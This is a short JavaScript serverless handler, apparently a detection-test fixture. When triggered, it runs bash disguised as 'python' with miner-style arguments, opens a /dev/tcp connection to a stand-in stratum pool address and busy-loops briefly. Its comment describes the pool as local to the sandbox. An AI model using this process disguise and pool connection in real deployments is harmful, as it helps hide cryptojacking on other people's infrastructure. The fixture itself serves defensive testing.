// Harmless: the ELF is bash, which counts for 20 seconds at most; the pool is an address on the sandbox's loopback
// device.
import { spawn } from 'node:child_process';
import { copyFileSync } from 'node:fs';

const WORK =
  'exec 9<>/dev/tcp/203.0.113.9/3333; printf "{\\"method\\":\\"login\\"}\\n" >&9; while [ $SECONDS -lt 20 ]; do :; done';

export const handler = async (event) => {
  if (event.attack !== true) return 'ok';
  copyFileSync('/bin/bash', '/tmp/python');
  const options = ['-c', WORK, 'python', '-o', 'stratum+tcp://203.0.113.9:3333', '--donate-level', '1'];
  const child = spawn('/tmp/python', options, { argv0: 'python', detached: true, stdio: 'ignore' });
  await new Promise((done) => child.once('spawn', done));
  child.unref();
  await new Promise((done) => setTimeout(done, 200));
  return 'ok';
};
